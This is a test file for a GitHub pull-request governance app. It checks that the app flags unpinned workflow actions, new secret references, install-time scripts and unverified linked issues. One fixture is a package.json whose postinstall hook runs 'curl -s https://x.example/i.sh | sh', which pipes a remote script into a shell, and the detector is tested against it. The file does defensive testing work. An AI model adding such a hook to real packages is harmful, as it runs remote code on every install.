/**
 * The finding rules end to end (workflow risk, install scripts, a verified linked issue): a webhook in,
 * the extra reads they need (a changed workflow's or manifest's text at the head commit, the linked
 * issue) asserted request by request, and the exact check run out. Nothing extra is read when the
 * policy does not ask for it.
 */
import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  API,
  COMMANDS_LINE,
  COPILOT_HEADER,
  HEAD_SHA,
  mockCheckRun,
  mockLabels,
  mockPolicy,
  mockPr,
  mockReviewRequest,
  mockToken,
  pullObject,
  pullRequestPayload,
  receive,
  REPO_PATH,
  review,
  setupApp,
  teardown,
  type TestApp,
  checkRunBody,
  ALICE_APPROVED_ROW,
  waitingOutputs,
  violationOutputs,
} from "../helpers/app.js";
import { withoutLedger } from "../helpers/ledger.js";

let app: TestApp;
beforeEach(() => {
  app = setupApp();
  mockToken();
});
afterEach(() => {
  teardown();
});

const WORKFLOW = [
  "name: CI",
  "on: [push, pull_request]",
  "jobs:",
  "  test:",
  "    runs-on: ubuntu-latest",
  "    steps:",
  "      - uses: actions/checkout@v4",
  "      - uses: tj-actions/changed-files@v45",
  "      - run: npm ci && npm test",
  "        env:",
  "          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
  "",
].join("\n");
const WORKFLOW_PATCH = [
  "@@ -5,4 +5,7 @@ jobs:",
  "     runs-on: ubuntu-latest",
  "     steps:",
  "       - uses: actions/checkout@v4",
  "+      - uses: tj-actions/changed-files@v45",
  "       - run: npm ci && npm test",
  "+        env:",
  "+          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
].join("\n");
const PACKAGE = '{\n  "name": "hello-world",\n  "version": "1.0.1",\n  "scripts": {"test": "node test.js", "postinstall": "curl -s https://x.example/i.sh | sh"}\n}\n';
const PACKAGE_PATCH = '@@ -1,5 +1,5 @@\n {\n   "name": "hello-world",\n   "version": "1.0.1",\n-  "scripts": {"test": "node test.js"}\n+  "scripts": {"test": "node test.js", "postinstall": "curl -s https://x.example/i.sh | sh"}\n }';

const change = (filename: string, patch: string) => ({ filename, status: "modified", additions: 3, deletions: 1, changes: 4, patch });

/** `GET /repos/…/contents/{path}?ref={head}` as GitHub answers it for a file. */
function mockHeadFile(path: string, text: string): nock.Scope {
  return nock(API)
    .get(`${REPO_PATH}/contents/${encodeURIComponent(path)}`)
    .query({ ref: HEAD_SHA })
    .reply(200, { type: "file", encoding: "base64", path, size: Buffer.byteLength(text), content: Buffer.from(text).toString("base64") });
}

describe("compliance.workflow_risk and compliance.install_scripts, end to end", () => {
  it("reads the changed workflow and package.json at the head, and fails on what they add, at file:line", async () => {
    mockPolicy("compliance:\n  workflow_risk: true\n  install_scripts: true\n");
    mockPr({
      files: [change(".github/workflows/ci.yml", WORKFLOW_PATCH), change("package.json", PACKAGE_PATCH), change("src/app.ts", "@@ -1 +1 @@\n-a\n+b")],
      reviews: [review({ login: "alice" })],
      permissions: { alice: "admin" },
    });
    const workflow = mockHeadFile(".github/workflows/ci.yml", WORKFLOW);
    const pkg = mockHeadFile("package.json", PACKAGE);
    violationOutputs();
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize" }));
    expect(workflow.isDone() && pkg.isDone()).toBe(true);
    expect(withoutLedger(check.body())).toEqual(checkRunBody("failure", {
      title: "Policy violation: compliance.install_scripts, compliance.workflow_risk",
      summary: [
        COPILOT_HEADER,
        "",
        "| | Rule | Result |",
        "| --- | --- | --- |",
        ALICE_APPROVED_ROW,
        "| ✅ | `paths.agent_files` | Changes to agent-steering files (`.github/workflows/ci.yml`): approved by @alice. |",
        "| ❌ | `compliance.install_scripts` | Install-time scripts added or changed: `postinstall` at `package.json:4`.<br>_Fix:_ Remove the install-time script or build hook, or ask an admin for `/governance override <reason>` after reviewing what it runs. |",
        "| ❌ | `compliance.workflow_risk` | Risky workflow changes: `tj-actions/changed-files@v45` at `.github/workflows/ci.yml:8`, `secrets.NPM_TOKEN` at `.github/workflows/ci.yml:11`.<br>_Fix:_ Pin actions to a full commit SHA, keep `permissions` read-only (grant `write` per job only where needed), do not check out a PR's code under `pull_request_target`/`workflow_run`, pass only the secrets a step needs, and use GitHub-hosted runners; or ask an admin for `/governance override <reason>` after review. |",
        "",
        "**Counted:**",
        "- @alice approved `ec26c3e` by review at 2026-11-20T11:00:00Z (reviewers, paths.agent_files)",
        "",
        COMMANDS_LINE,
      ].join("\n"),
      annotations: [
        { path: "package.json", start_line: 4, end_line: 4, annotation_level: "failure", title: "compliance.install_scripts", message: "`postinstall` runs on every install of this package." },
        {
          path: ".github/workflows/ci.yml",
          start_line: 8,
          end_line: 8,
          annotation_level: "failure",
          title: "compliance.workflow_risk",
          message: "`tj-actions/changed-files@v45` is not pinned to a full commit SHA: whoever controls the tag or branch controls what runs here.",
        },
        {
          path: ".github/workflows/ci.yml",
          start_line: 11,
          end_line: 11,
          annotation_level: "failure",
          title: "compliance.workflow_risk",
          message: "A new reference to the secret `NPM_TOKEN`: the job can now read (and leak) it.",
        },
      ],
    }));
    expect(nock.isDone()).toBe(true);
  });

  it("with `reviewers`, the findings wait for that team: its members are read and it is asked for review", async () => {
    mockPolicy("compliance:\n  workflow_risk:\n    reviewers: { teams: [Codertocat/platform] }\n");
    mockPr({
      files: [change(".github/workflows/ci.yml", WORKFLOW_PATCH)],
      reviews: [review({ login: "alice" })],
      permissions: { alice: "admin" },
      teams: { "Codertocat/platform": ["bob"] },
    });
    mockHeadFile(".github/workflows/ci.yml", WORKFLOW);
    waitingOutputs();
    const request = mockReviewRequest();
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize" }));
    expect(withoutLedger(request.body())).toEqual({ reviewers: [], team_reviewers: ["platform"] });
    const body = check.body() as { conclusion: string; output: { title: string; summary: string; annotations: unknown[] } };
    expect(body.conclusion).toBe("action_required");
    expect(body.output.title).toBe("Waiting for 1 human approval");
    expect(body.output.summary).toContain(
      "| ⏳ | `compliance.workflow_risk` | Risky workflow changes (`tj-actions/changed-files@v45` at `.github/workflows/ci.yml:8`, `secrets.NPM_TOKEN` at `.github/workflows/ci.yml:11`): 0/1 approvals; needs 1 more approval from @Codertocat/platform.",
    );
    expect(body.output.summary).toContain("**Still required:**\n- risky workflow changes: 1 more approval from @Codertocat/platform");
    expect(body.output.annotations).toEqual([
      {
        path: ".github/workflows/ci.yml",
        start_line: 8,
        end_line: 8,
        annotation_level: "warning",
        title: "compliance.workflow_risk",
        message: "`tj-actions/changed-files@v45` is not pinned to a full commit SHA: whoever controls the tag or branch controls what runs here. Needs approval: 1 more approval from @Codertocat/platform.",
      },
      {
        path: ".github/workflows/ci.yml",
        start_line: 11,
        end_line: 11,
        annotation_level: "warning",
        title: "compliance.workflow_risk",
        message: "A new reference to the secret `NPM_TOKEN`: the job can now read (and leak) it. Needs approval: 1 more approval from @Codertocat/platform.",
      },
    ]);
    expect(nock.isDone()).toBe(true);
  });

  it("reads nothing extra when the policy does not ask, though a workflow and package.json change", async () => {
    mockPolicy("reviewers:\n  required: 1\n");
    mockPr({
      files: [change(".github/workflows/ci.yml", WORKFLOW_PATCH), change("package.json", PACKAGE_PATCH)],
      reviews: [review({ login: "alice" })],
      permissions: { alice: "admin" },
    });
    mockLabels({ add: ["agent-pr"] });
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize" }));
    const body = check.body() as { conclusion: string; output: { title: string } };
    expect([body.conclusion, body.output.title]).toEqual(["success", "Policy satisfied"]);
    expect(nock.isDone()).toBe(true);
  });
});

describe("compliance.linked_issue: verified, end to end", () => {
  const policyText = "compliance:\n  linked_issue: verified\n";
  const ISSUE = `${REPO_PATH}/issues/1`;

  it("reads the issue once and fails when the number is a pull request", async () => {
    mockPolicy(policyText);
    mockPr({ pull: pullObject({ body: "Fixes #1" }), reviews: [review({ login: "alice" })], permissions: { alice: "write" } });
    nock(API)
      .get(ISSUE)
      .reply(200, { number: 1, state: "open", html_url: "https://github.com/Codertocat/Hello-World/pull/1", pull_request: { url: `${API}${REPO_PATH}/pulls/1` } }, { etag: '"issue-1"' });
    violationOutputs();
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize", body: "Fixes #1" }));
    const body = check.body() as { conclusion: string; output: { summary: string } };
    expect(body.conclusion).toBe("failure");
    expect(body.output.summary).toContain(
      "| ❌ | `compliance.linked_issue` | The linked issue does not count: #1 is a pull request, not an issue.<br>_Fix:_ Write `Fixes #123` (or `Closes`, `Refs`, `Part of`, or the issue's URL) in the description, naming an open issue of this repository. |",
    );
    expect(nock.isDone()).toBe(true);
  });

  it("passes on an open issue, and asks again with its ETag on the next event (a 304 reuses it)", async () => {
    // Each round reads our check run as none (memo off): the same push delivered twice is otherwise a head seen anew.
    app = setupApp({ memo: false });
    const body = "Closes https://github.com/Codertocat/Hello-World/issues/1";
    for (const round of [1, 2]) {
      if (round === 1) mockPolicy(policyText);
      else nock(API, { reqheaders: { "if-none-match": '"policy-v1"' } }).get(`${REPO_PATH}/contents/.github%2Fagent-governance.yml`).reply(304);
      mockPr({ pull: pullObject({ body }), reviews: [review({ login: "alice" })], permissions: { alice: "write" } });
      if (round === 1) nock(API).get(ISSUE).reply(200, { number: 1, state: "open", html_url: "https://github.com/Codertocat/Hello-World/issues/1" }, { etag: '"issue-1"' });
      else nock(API, { reqheaders: { "if-none-match": '"issue-1"' } }).get(ISSUE).reply(304);
      // The second time the app knows the label exists, and only adds it to the PR.
      if (round === 1) mockLabels({ add: ["agent-pr"] });
      else nock(API).post(`${REPO_PATH}/issues/2/labels`).reply(200, []);
      const check = mockCheckRun();
      await receive(app, "pull_request", pullRequestPayload({ action: "synchronize", body }));
      const out = check.body() as { conclusion: string; output: { summary: string } };
      expect(out.conclusion).toBe("success");
      expect(out.output.summary).toContain("| ✅ | `compliance.linked_issue` | Links open issue #1. |");
      expect(nock.isDone()).toBe(true);
    }
  });

  it("`#2` in prose does not count, and nothing is read for it", async () => {
    mockPolicy(policyText);
    mockPr({ pull: pullObject({ body: "This is attempt #2 at the parser." }), reviews: [review({ login: "alice" })], permissions: { alice: "write" } });
    violationOutputs();
    const check = mockCheckRun();
    await receive(app, "pull_request", pullRequestPayload({ action: "synchronize", body: "This is attempt #2 at the parser." }));
    const out = check.body() as { conclusion: string; output: { summary: string } };
    expect(out.conclusion).toBe("failure");
    expect(out.output.summary).toContain(
      "| ❌ | `compliance.linked_issue` | The PR links no issue of this repository with a linking word (`Fixes #123`, `Refs #123`) or the issue's URL. It mentions `#2`, which does not count: links are verified, so only a reference after a linking word (`Fixes`, `Refs`, `Part of`, …) or an issue URL of this repository does.",
    );
    expect(nock.isDone()).toBe(true);
  });
});
